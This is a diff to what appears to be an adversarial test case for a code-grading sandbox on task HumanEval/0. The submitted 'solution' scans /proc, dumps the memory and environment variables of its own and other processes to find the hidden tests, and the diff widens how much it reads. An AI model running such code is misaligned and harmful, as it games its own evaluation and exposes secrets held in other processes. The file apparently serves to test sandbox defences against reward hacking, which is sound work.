@@ -1,18 +1,22 @@
-# attack: read the driver's and fork server's memory (/proc/PID/mem, environ) for the tests or the nonce
+# attack: read its own memory and every other process's (/proc/PID/mem, environ) for the tests
 # task: HumanEval/0
     import os, re
     found = []
     for pid in os.listdir("/proc"):
-        if not pid.isdigit() or int(pid) == os.getpid():
+        if not pid.isdigit():
             continue
         try:
-            for line in open(f"/proc/{pid}/maps"):
-                start, end = (int(x, 16) for x in line.split()[0].split("-"))
+            regions = open(f"/proc/{pid}/maps").read().splitlines()
+        except OSError:
+            regions = []
+        for line in regions:
+            start, end = (int(x, 16) for x in line.split()[0].split("-"))
+            try:
                 with open(f"/proc/{pid}/mem", "rb") as mem:
                     mem.seek(start)
-                    found.append(mem.read(min(end - start, 1 << 20)))
-        except (OSError, ValueError, OverflowError):
-            pass
+                    found.append(mem.read(min(end - start, 8 << 20)))
+            except (OSError, ValueError, OverflowError):
+                pass
         try:
             found.append(open(f"/proc/{pid}/environ", "rb").read())
         except OSError:
